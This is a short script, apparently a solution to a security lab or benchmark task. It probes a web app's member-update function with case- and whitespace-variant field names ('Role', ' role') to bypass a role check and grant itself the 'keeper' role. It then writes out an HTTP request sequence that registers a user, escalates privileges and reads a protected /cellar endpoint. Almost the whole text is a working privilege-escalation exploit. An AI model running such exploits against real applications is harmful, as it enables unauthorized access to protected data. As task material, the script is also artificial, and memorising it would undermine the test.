# The name of a field is compared before it is made small.
python3 - <<'END'
import json
import app
for key in ("role", "Role", " role"):
    member = app.members[app.new_member("ada")]
    try:
        app.change(member, {key: "keeper"})
    except Exception:
        continue
    if member["role"] == "keeper":
        token = {"Authorization": "Bearer {{token}}"}
        json.dump([
            {"method": "POST", "path": "/members", "body": '{"name": "ada"}', "keep": {"token": {"after": '"token": "', "until": '"'}}},
            {"method": "PUT", "path": "/me", "headers": token, "body": json.dumps({key: "keeper"})},
            {"path": "/cellar", "headers": token},
        ], open("/task/requests.json", "w"))
        print("found:", repr(key))
        break
END
